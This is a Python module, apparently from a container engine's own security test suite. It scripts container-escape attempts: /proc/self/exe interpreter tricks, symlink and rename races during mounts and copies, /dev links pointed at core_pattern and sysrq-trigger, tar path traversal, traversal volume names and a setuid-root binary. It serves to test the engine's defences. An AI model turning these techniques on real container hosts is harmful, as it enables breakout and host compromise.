"""Attacks in which the host has a part: it starts, executes, copies or mounts at the wrong moment.

Each scene sets a trap inside a container or an image and then does what people do every day.
"""

from __future__ import annotations

import io
import tarfile
from collections.abc import Iterator
from contextlib import contextmanager
from typing import TYPE_CHECKING

from pyminidocker.attacks.attack import Attempt
from pyminidocker.attacks.inside.kit import VERDICT
from pyminidocker.attacks.tiny_program import tell_user
from pyminidocker.errors import MiniDockerError, NotFound

if TYPE_CHECKING:
    from pyminidocker.attacks.arena import Arena
    from pyminidocker.client.container import Container

_ROUNDS = 12
_IMAGE = "attack-scene:trap"
_VOLUMES = ("attack-scene", "attack-scene-2")
_WHO = "attack-scene"


@contextmanager
def _tidy(arena: Arena) -> Iterator[None]:
    """Remove what a scene made, also what an interrupted one left."""
    _clear(arena)
    try:
        yield
    finally:
        _clear(arena)


def _clear(arena: Arena) -> None:
    api = arena.engine.api
    for name in (_WHO, f"{_WHO}-2"):
        try:
            api.container_remove(name, force=True, volumes=True)
        except NotFound:
            pass
    for name in _VOLUMES:
        try:
            api.volume_remove(name)
        except NotFound:
            pass
    try:
        api.image_remove(_IMAGE)
    except NotFound:
        pass


def _archive(*members: tuple[str, str, bytes]) -> bytes:
    """Return a tar of (name, link target, content); with a target it is a symbolic link."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as archive:
        for name, target, content in members:
            member = tarfile.TarInfo(name)
            member.mode = 0o755
            if target:
                member.type, member.linkname = tarfile.SYMTYPE, target
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
    return packed.getvalue()


def _trap(arena: Arena, *members: tuple[str, str, bytes], base: str = "busybox") -> str:
    """Make an image with these files in it and return its name."""
    maker = arena.engine.create(base, ["true"], name=_WHO)
    try:
        arena.engine.api.archive_put(maker.id, "/", _archive(*members))
        maker.commit(_IMAGE)
    finally:
        maker.remove(force=True)
    return _IMAGE


def _said(arena: Arena, box: Container) -> Attempt:
    """Read the verdict of a program that has ended."""
    from pyminidocker.attacks.run import verdicts

    code = box.wait(20)
    logs = box.logs()
    return verdicts(arena, [arena.attack], logs.stdout, logs.stderr, code)[arena.attack.id]


_OWN_PROGRAM = f"""#!/proc/self/exe
import json, os
path = "/proc/self/exe"
info = os.stat(path)
told = f"{{os.readlink(path)}} of uid {{info.st_uid}}, mode {{info.st_mode & 0o777:o}}"
writable = os.access(path, os.W_OK)
told += ", writable" if writable else ", not to be written"
print({VERDICT!r} + json.dumps(["own-program", "succeeded" if writable else "stopped", told]))
"""


def own_program(arena: Arena) -> Attempt:
    """Be a script whose interpreter is /proc/self/exe: the engine's own program, on the host."""
    with _tidy(arena):
        image = _trap(arena, ("x", "", _OWN_PROGRAM.encode()), base="python")
        try:
            box = arena.engine.run(
                image, ["/x"], detach=True, name=_WHO,
                **arena.options(env=["PYTHONHOME=/usr/local"]),
            )  # fmt: skip
        except MiniDockerError as error:
            return arena.stopped(f"the start fails: {error}")
        try:
            return _said(arena, box)
        except MiniDockerError:
            return arena.stopped("the interpreter did not start")


_WATCH_NEWCOMERS = """
import os, sys
seen, tried = {}, 0
home = {os.stat(path).st_dev for path in ("/", "/proc")}
print("ready", flush=True)
while not os.path.exists("/dev/shm/enough"):
    for pid in os.listdir("/proc"):
        if pid.isdigit() and pid not in ("1", str(os.getpid())):
            try:
                fd = os.open(f"/proc/{pid}/exe", os.O_RDONLY)
            except OSError as error:
                seen[error.strerror] = seen.get(error.strerror, 0) + 1
                continue
            tried += 1
            if os.fstat(fd).st_dev not in home:
                print("foreign", os.readlink(f"/proc/self/fd/{fd}"), flush=True)
            os.close(fd)
print("seen", tried, seen, flush=True)
"""


def program_of_an_exec(arena: Arena) -> Attempt:
    """Lie in wait for ``exec`` and open the program of the process that comes in."""
    with _tidy(arena):
        box = arena.engine.run(
            "python", ["python3", "-c", _WATCH_NEWCOMERS], detach=True, name=_WHO,
            **arena.options(),
        )  # fmt: skip
        lines = box.follow()
        next(lines)
        for _ in range(_ROUNDS):
            box.exec(["true"])
        box.exec(["touch", "/dev/shm/enough"])
        told = list(lines)
        foreign = [line for line in told if line.startswith("foreign")]
        if foreign:
            return arena.succeeded(f"{len(foreign)} programs of the host opened: {foreign[0]}")
        return arena.stopped(f"{_ROUNDS} processes came in; {told[-1] if told else 'none seen'}")


def _read_upwards(arena: Arena) -> list[str]:
    path = arena.watch.path
    return ["sh", "-c", f"cat .{path} ../../..{path} /proc/self/cwd/../../../..{path}"]


def working_directory(arena: Arena) -> Attempt:
    """Start in /proc/self/fd/N: a directory of the host that the engine's init has open."""
    refusals: set[str] = set()
    for number in range(3, 13):
        try:
            said = arena.run(_read_upwards(arena), "busybox", workdir=f"/proc/self/fd/{number}")
        except MiniDockerError as error:
            refusals.add(str(error).rpartition("process: ")[2])
            continue
        if arena.watch.secret in said.stdout:
            return arena.succeeded(f"-w /proc/self/fd/{number} is a directory of the host")
        refusals.add("a directory of its own")
    return arena.stopped("; ".join(sorted(refusals)[:2]))


def working_directory_of_an_exec(arena: Arena) -> Attempt:
    """The same with ``exec -w``."""
    with _tidy(arena):
        box = arena.engine.run(
            "busybox", ["sleep", "60"], detach=True, name=_WHO, **arena.options()
        )
        refusals: set[str] = set()
        for number in range(3, 13):
            try:
                said = box.exec(_read_upwards(arena), workdir=f"/proc/self/fd/{number}")
            except MiniDockerError as error:
                refusals.add(str(error).rpartition("process: ")[2])
                continue
            if arena.watch.secret in said.stdout:
                return arena.succeeded(f"exec -w /proc/self/fd/{number} leads to the host")
        return arena.stopped("; ".join(sorted(refusals)[:2]) or "directories of its own")


def mount_over_a_link(arena: Arena) -> Attempt:
    """Have a volume mounted at a path that is a link to a directory of the host."""
    with _tidy(arena):
        host = arena.watch.directory
        links = [("absolute", host, b""), ("relative", f"../../../../..{host}", b"")]
        image, evidence = _trap(arena, *links), ""
        for name, _, _ in links:
            try:
                said = arena.run(
                    ["cat", f"/{name}/secret"], image, volumes=[f"{_VOLUMES[0]}:/{name}/made"]
                )
            except MiniDockerError as error:
                evidence = str(error).rpartition("process: ")[2]
                continue
            if arena.watch.secret in said.stdout:
                return arena.succeeded(f"/{name} is the host's {host}")
            evidence = "the links lead to paths inside the container"
        if damage := arena.watch.damage():
            return arena.succeeded(damage)
        return arena.stopped(evidence)


_EXCHANGE = """
import os, sys
place, target = sys.argv[1:]
os.makedirs(f"{place}/x", exist_ok=True)
os.symlink(target, f"{place}/link")
print("ready", flush=True)
while True:
    os.rename(f"{place}/x", f"{place}/y")
    os.rename(f"{place}/link", f"{place}/x")
    os.rename(f"{place}/x", f"{place}/link")
    os.rename(f"{place}/y", f"{place}/x")
"""


def mount_race(arena: Arena) -> Attempt:
    """Exchange a directory for a link while another container is being mounted there."""
    with _tidy(arena):
        volume = f"{_VOLUMES[0]}:/shared"
        try:
            racer = arena.engine.run(
                "python", ["python3", "-c", _EXCHANGE, "/shared", arena.watch.directory],
                detach=True, name=_WHO, **arena.options(volumes=[volume], user="0"),
            )  # fmt: skip
        except MiniDockerError as error:
            return arena.stopped(f"the engine refused: {error}")
        next(racer.follow(), "")
        started = 0
        for _ in range(_ROUNDS):
            try:
                said = arena.run(
                    ["sh", "-c", "cat /shared/x/secret; ls /shared/x/"], "busybox",
                    volumes=[volume, f"{_VOLUMES[1]}:/shared/x/inner"],
                )  # fmt: skip
            except MiniDockerError:
                continue
            started += 1
            if arena.watch.secret in said.stdout:
                return arena.succeeded("the link led the mount to the host")
        if damage := arena.watch.damage():
            return arena.succeeded(damage)
        return arena.stopped(f"{_ROUNDS} starts, {started} succeeded, all inside their own root")


def copy_over_a_link(arena: Arena) -> Attempt:
    """Have ``cp`` read and write by a link that leads to the host."""
    with _tidy(arena):
        image = _trap(arena, ("out", arena.watch.directory, b""))
        box = arena.engine.create(image, ["true"], name=_WHO, **arena.options())
        return _copy(arena, box, "/out", rounds=1)


def copy_race(arena: Arena) -> Attempt:
    """Exchange a directory for a link while ``cp`` goes through it."""
    with _tidy(arena):
        box = arena.engine.run(
            "python", ["python3", "-c", _EXCHANGE, "/dev/shm", arena.watch.directory],
            detach=True, name=_WHO, **arena.options(),
        )  # fmt: skip
        next(box.follow(), "")
        return _copy(arena, box, "/dev/shm/x", rounds=_ROUNDS)


def _copy(arena: Arena, box: Container, place: str, *, rounds: int) -> Attempt:
    refused = written = 0
    for _ in range(rounds):
        try:
            if box.read_file(f"{place}/secret").decode() == arena.watch.secret:
                return arena.succeeded("cp brought a file of the host")
        except MiniDockerError:
            refused += 1
        try:
            box.write_file(f"{place}/planted", "x")
            written += 1
        except MiniDockerError:
            refused += 1
    if damage := arena.watch.damage():
        return arena.succeeded(damage)
    return arena.stopped(
        f"{2 * rounds} copies: {refused} find nothing, {written} end inside the container"
    )


def masks_by_a_false_null(arena: Arena) -> Attempt:
    """Put a link in the place of /dev/null, which covers are made of."""
    with _tidy(arena):
        target = "/proc/sys/kernel/core_pattern"
        _fill(arena, _VOLUMES[0], ("null", target, b""))
        script = f"cat /proc/kcore /proc/keys; (echo x > /proc/kcore) 2>&1; cat {target}"
        try:
            said = arena.run(["sh", "-c", script], "busybox", volumes=[f"{_VOLUMES[0]}:/dev"])
        except MiniDockerError as error:
            return arena.stopped(str(error).rpartition("process: ")[2])
        if damage := arena.watch.damage():
            return arena.succeeded(damage)
        first = said.stdout.splitlines()
        if len(first) > 1:
            return arena.succeeded(f"/proc/kcore shows {first[0]!r}")
        return arena.stopped("the covers are the host's own /dev/null, taken by descriptor")


def console_over_a_link(arena: Arena) -> Attempt:
    """Put a link in the place of /dev/console, over which the terminal is mounted."""
    with _tidy(arena):
        target = "/proc/sysrq-trigger"
        _fill(arena, _VOLUMES[0], ("console", target, b""))
        script = f"(echo h > {target}) 2>&1; grep -c -e sysrq -e '/proc ' /proc/mounts"
        try:
            said = arena.run(
                ["sh", "-c", script], "busybox", volumes=[f"{_VOLUMES[0]}:/dev"], tty=True
            )
        except MiniDockerError as error:
            return arena.stopped(str(error).rpartition("process: ")[2])
        if "devpts" in said.stdout or not said.stdout:
            return arena.succeeded(f"the terminal covers {target}")
        return arena.stopped(said.stdout.splitlines()[0])


def _fill(arena: Arena, volume: str, *members: tuple[str, str, bytes]) -> None:
    """Put files into a volume, as another container could have done."""
    with arena.engine.create("busybox", ["true"], volumes=[f"{volume}:/v"]) as box:
        arena.engine.api.archive_put(box.id, "/v", _archive(*members))


def mount_over_proc(arena: Arena) -> Attempt:
    """Replace /proc, or a file in it, so that what the engine writes there goes elsewhere."""
    with _tidy(arena):
        image = _trap(arena, ("link", "/proc", b""))
        refusals = []
        for place in ("/proc", "/proc/self/attr", "/link/1", "/link/sys"):
            try:
                arena.run(["true"], image, volumes=[f"{_VOLUMES[0]}:{place}"])
            except MiniDockerError as error:
                refusals.append(str(error).rpartition("process: ")[2].removesuffix(": unknown"))
                continue
            return arena.succeeded(f"a volume is mounted at {place}")
        return arena.stopped(refusals[-1])


def layer_outside(arena: Arena) -> Attempt:
    """Import an image whose archive has names that lead out of its directory."""
    with _tidy(arena):
        host = arena.watch.directory
        archive = _archive(
            (f"../../../../../../../..{host}/planted", "", b"x"),
            ("out", host, b""),
            ("out/planted-too", "", b"x"),
        )
        try:
            arena.engine.import_image(archive, _IMAGE)
        except MiniDockerError as error:
            return arena.stopped(str(error))
        if damage := arena.watch.damage():
            return arena.succeeded(damage)
        return arena.stopped("all of the archive is inside the layer's directory")


def volume_by_path(arena: Arena) -> Attempt:
    """Ask for a volume whose name is a path out of the engine's directory."""
    refusals = []
    for name in ("..", f"../../../../../..{arena.watch.directory}", "a/../../.."):
        try:
            said = arena.run(["ls", "/v"], "busybox", volumes=[f"{name}:/v"])
        except MiniDockerError as error:
            refusals.append(str(error).splitlines()[0])
            continue
        if "secret" in said.stdout or "volume.json" in said.stdout:
            return arena.succeeded(f"-v {name}:/v shows {said.stdout.split()[:3]}")
    return arena.stopped(refusals[0] if refusals else "a volume of that name was made")


def root_by_a_program(arena: Arena) -> Attempt:
    """As an ordinary user: run a program that has root's set-user-id bit."""
    if arena.has_single_id:
        return arena.untried("this lab has one user only")
    with _tidy(arena):
        box = arena.engine.create(
            "busybox", ["/whoami"], name=_WHO, **arena.options(user="65534:65534", read_only=False)
        )
        box.write_file("/whoami", tell_user(), mode=0o4755)
        box.start()
        code = box.wait(20)
        if code == 0:
            return arena.succeeded("the effective user id is 0")
        return arena.stopped(f"the effective user id stays {65534 if code == 254 else code}")
